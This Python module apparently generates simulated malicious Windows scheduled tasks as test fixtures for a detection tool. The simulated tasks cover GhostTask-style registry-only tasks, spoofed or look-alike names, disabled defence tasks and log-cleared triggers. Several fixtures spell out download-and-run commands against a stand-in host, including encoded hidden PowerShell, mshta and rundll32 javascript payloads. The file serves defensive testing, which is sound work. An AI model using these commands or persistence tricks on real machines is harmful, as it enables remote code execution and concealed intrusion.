"""Tasks of an intruder: made past the service, or through it and suspicious by what they are."""

from __future__ import annotations

import base64
from dataclasses import replace

from triptych.lessons.benign_tasks import LAPTOP, SYSTEM, as_user, com, daily, definition, exec_, local
from triptych.lessons.deviations.hand import STOCK, VICTIM, moment, planted, rewritten
from triptych.lessons.machine import Machine
from triptych.lessons.stock_tasks import subscription
from triptych.lessons.task_spec import ActionSpec, Definition, PrincipalSpec, SettingsSpec, TaskSpec, TaskTimes, TriggerSpec
from triptych.model.times import TICKS_A_DAY, TICKS_A_SECOND, Instant, Zone

GHOST = r"\Sync Center Cache"
PLANTED = r"\Contoso\Cache Refresh"
LOOK_ALIKE = r"\Microsoft\Windows\Defrag\SheduledDefrag"
FOREIGN = r"\Microsoft\Windows\NetTrace\GatherTelemetryCache"
RIGHT_TO_LEFT, ZERO_WIDTH = "\\Update\u202egnp.exe", "\\GoogleUpdate\u200bTaskMachineCore"
TRAILING_SPACE, WITH_NUL = "\\OneDrive Standalone Update ", "\\Proxy\0Sync"
_ORDINARY = exec_(r"C:\Program Files\Contoso\Cache\refresh.exe")
_CALLBACK = r"http://203.0.113.41/a"


def ghost_task(machine: Machine, path: str = GHOST) -> Machine:
    """Written straight into the registry, with every mark of GhostTask: no file, no Hash, no Schema, an SD that admits nobody."""
    created = moment(machine) // 10_000 * 10_000 - machine.bias * 60 * TICKS_A_SECOND
    date = Instant(created - created % TICKS_A_SECOND, Zone.LOCAL, 0).iso
    told = definition(
        PrincipalSpec("Author", sid="S-1-5-18", logon_type="InteractiveToken", sid_type=1),
        (exec_("cmd.exe", r"/c C:\ProgramData\x\u.bat"),),
        replace(daily(date), days=1),
        author=r"SYSTEM",
        date=date,
        uri=path,
        settings=SettingsSpec(no_start_on_batteries=False, stop_on_batteries=False, idle_duration="PT10M", idle_wait="PT1H"),
    )
    written = moment(machine, 0.2)
    times = TaskTimes(created, written, written + 120_411, written + 98_113, 0, result=0)
    guid = planted(machine, path, told, ran=False).guid
    return machine.with_task(TaskSpec(path, guid, told, "O:BAG:SYD:", times, hashed=False, has_file=False))


def file_only(machine: Machine, path: str = r"\Backup-old") -> Machine:
    """An XML file that nothing registers."""
    powershell = exec_("powershell.exe", r"-File C:\Users\Public\backup.ps1")
    told = definition(as_user(machine.accounts[0], machine.name), (powershell,), daily("2026-03-01T01:00:00"))
    return machine.with_task(replace(planted(machine, path, told, ran=False), registered=False))


def _with(machine: Machine, path: str, told: Definition, *, ran: bool = True) -> Machine:
    return machine.with_task(planted(machine, path, told, ran=ran))


def _as_system(*actions: ActionSpec, triggers: tuple[TriggerSpec, ...] = (daily("2026-03-01T02:17:00"),)) -> Definition:
    return definition(SYSTEM, actions, *triggers, author=r"CORP\svc-backup", settings=LAPTOP)


def hidden_setting(machine: Machine) -> Machine:
    """Registered with Hidden=true."""
    told = _as_system(_ORDINARY)
    return _with(machine, PLANTED, replace(told, settings=replace(told.settings, hidden=True)))


def look_alike(machine: Machine) -> Machine:
    """Named like a task of Windows, a letter apart, in the folder beside it."""
    return _with(machine, LOOK_ALIKE, _as_system(_ORDINARY))


def _named(machine: Machine, name: str) -> Machine:
    return _with(machine, name, _as_system(_ORDINARY))


def right_to_left_name(machine: Machine) -> Machine:
    """A right-to-left override in the name."""
    return _named(machine, RIGHT_TO_LEFT)


def zero_width_name(machine: Machine) -> Machine:
    """A zero-width space between Latin letters."""
    return _named(machine, ZERO_WIDTH)


def trailing_space_name(machine: Machine) -> Machine:
    return _named(machine, TRAILING_SPACE)


def nul_name(machine: Machine, path: str = WITH_NUL) -> Machine:
    """A NUL in the key's name: tools of the API stop at it. No file can bear the name."""
    task = replace(planted(machine, path, _as_system(_ORDINARY)), has_file=False)
    return machine.with_task(task)


def author_spoofed(machine: Machine) -> Machine:
    """Claims to be of Microsoft and of long ago, and starts a program of nobody."""
    told = _as_system(exec_(r"C:\ProgramData\Services\svchelper.exe"))
    registration = replace(told.registration, author="Microsoft Corporation", date="2014-07-01T09:00:00")
    return _with(machine, PLANTED, replace(told, registration=registration))


def stock_altered(machine: Machine, path: str = STOCK) -> Machine:
    """A shipped task changed through the service: all stores agree, the program is another."""
    task = machine.task(path)
    told = replace(task.definition, actions=(exec_(r"C:\ProgramData\x\defrag.exe", "-c"),))
    return machine.with_task(rewritten(task, told, moment(machine)))


DEFENCE = (r"\Microsoft\Windows\Windows Defender", r"\Microsoft\Windows\SystemRestore\SR", r"\Microsoft\Windows\WindowsUpdate")


def stock_disabled(machine: Machine) -> Machine:
    """Tasks that protect the machine are switched off."""
    changed: list[TaskSpec] = []
    for task in machine.tasks:
        if task.path.startswith(DEFENCE):
            settings = replace(task.definition.settings, enabled=False)
            changed.append(rewritten(task, replace(task.definition, settings=settings), moment(machine, len(changed))))
    return machine.with_task(*changed)


def foreign_in_stock_folder(machine: Machine) -> Machine:
    """A task below the folder of Windows that no Windows ships."""
    return _with(machine, FOREIGN, _as_system(_ORDINARY))


def _command(machine: Machine, action: ActionSpec) -> Machine:
    return _with(machine, PLANTED, _as_system(action))


def encoded_download(machine: Machine) -> Machine:
    """PowerShell with an encoded argument that fetches and runs."""
    script = f"IEX (New-Object Net.WebClient).DownloadString('{_CALLBACK}')"
    encoded = base64.b64encode(script.encode("utf-16-le")).decode("ascii")
    return _command(machine, exec_("powershell.exe", f"-nop -w hidden -enc {encoded}"))


def mshta(machine: Machine) -> Machine:
    return _command(machine, exec_("mshta.exe", f"{_CALLBACK}.hta"))


def rundll32_javascript(machine: Machine) -> Machine:
    script = r'javascript:"\..\mshtml,RunHTMLApplication ";document.write();GetObject("script:' + _CALLBACK + '")'
    return _command(machine, exec_("rundll32.exe", script))


def network_path(machine: Machine) -> Machine:
    """A program on another machine."""
    return _command(machine, exec_(r"\\203.0.113.41\share\update.exe"))


def web_folder(machine: Machine) -> Machine:
    """A program from a web folder."""
    return _command(machine, exec_(r"\\files.example.net@SSL@443\DavWWWRoot\update.exe"))


def user_writable_as_system(machine: Machine) -> Machine:
    """SYSTEM starts what any user can replace."""
    return _command(machine, exec_(r"C:\Users\Public\Libraries\update.exe"))


def decoy_action(machine: Machine) -> Machine:
    """A harmless action first, the payload behind it."""
    return _with(machine, PLANTED, _as_system(_ORDINARY, exec_("mshta.exe", f"{_CALLBACK}.hta")))


def event_trigger(machine: Machine) -> Machine:
    """Wakes on an event of a source of its own."""
    trigger = TriggerSpec("EventTrigger", subscription=subscription("Application", "Serial Notifier", 777))
    return _with(machine, PLANTED, _as_system(_ORDINARY, triggers=(trigger,)))


def wnf_trigger(machine: Machine) -> Machine:
    """Wakes on a state of Windows, in a way that only Windows' own tasks use."""
    trigger = TriggerSpec("WnfStateChangeTrigger", state_name="7508BCA3380C960C", data="01")
    return _with(machine, PLANTED, replace(_as_system(_ORDINARY, triggers=(trigger,)), schema="1.4"))


def defence_trigger(machine: Machine) -> Machine:
    """Wakes when the Security log is cleared."""
    trigger = TriggerSpec("EventTrigger", subscription=subscription("Security", "Microsoft-Windows-Eventlog", 1102))
    return _with(machine, PLANTED, _as_system(_ORDINARY, triggers=(trigger,)))


def _stored(machine: Machine, logon_type: str) -> Machine:
    principal = as_user(machine.accounts[1], "CORP", highest=True, logon_type=logon_type)
    told = definition(principal, (_ORDINARY,), daily("2026-03-01T02:17:00"), author=r"CORP\svc-backup")
    return _with(machine, PLANTED, told)


def password_logon(machine: Machine) -> Machine:
    """Runs with a stored password."""
    return _stored(machine, "Password")


def s4u_logon(machine: Machine) -> Machine:
    """Runs as a user who need not be there, without a password."""
    return _stored(machine, "S4U")


def text_payload(machine: Machine) -> Machine:
    """A script of four thousand characters in the description."""
    script = base64.b64encode(f"Invoke-Expression; fetch {_CALLBACK}; ".encode() * 80).decode("ascii")
    told = _as_system(_ORDINARY)
    return _with(machine, PLANTED, replace(told, registration=replace(told.registration, description=script)))


def data_payload(machine: Machine) -> Machine:
    """A script in Data, a place that hardly any task uses."""
    script = f"powershell -nop -c \"IEX (New-Object Net.WebClient).DownloadString('{_CALLBACK}')\""
    told = _as_system(_ORDINARY)
    return _with(machine, PLANTED, replace(told, registration=replace(told.registration, data=script)))


def self_deleting(machine: Machine) -> Machine:
    """Runs once and deletes itself when it has expired."""
    trigger = TriggerSpec("TimeTrigger", start=local("2026-03-14T10:20:00"), end=local("2026-03-14T10:21:00"))
    told = _as_system(exec_(r"C:\Users\Public\once.exe"), triggers=(trigger,))
    return _with(machine, PLANTED, replace(told, settings=replace(told.settings, delete_after="PT0S")), ran=False)


def false_times(machine: Machine, path: str = VICTIM) -> Machine:
    """Dates that cannot all be true: authored after everything was written, run before it was registered."""
    task = machine.task(path)
    registration = replace(task.definition.registration, date="2027-08-30T11:00:00")
    times = replace(task.times, last_run=task.times.registered - 400 * TICKS_A_DAY, last_success=0)
    return machine.with_task(replace(task, definition=replace(task.definition, registration=registration), times=times))


def unregistered_handler(machine: Machine) -> Machine:
    """A handler whose class nobody registers."""
    return _command(machine, com("{6F1D8C11-5A0C-4C2D-8C1E-3B52B05B4E07}"))
